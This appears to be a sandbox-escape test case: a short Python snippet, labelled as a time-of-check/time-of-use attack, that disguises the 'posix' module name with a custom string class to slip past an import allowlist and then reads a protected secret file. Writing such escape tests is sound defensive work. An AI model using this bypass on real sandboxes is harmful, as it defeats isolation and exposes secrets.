# class: time of check / time of use
# technique: a module's name whose comparison runs while it is checked
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
import json
box = []
Asked = kind(int)("Asked", (str,), {"__eq__": lambda self, other: box.append(self) or str.__eq__(self, other), "__hash__": str.__hash__})
reached = __import__(Asked("posix"))
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
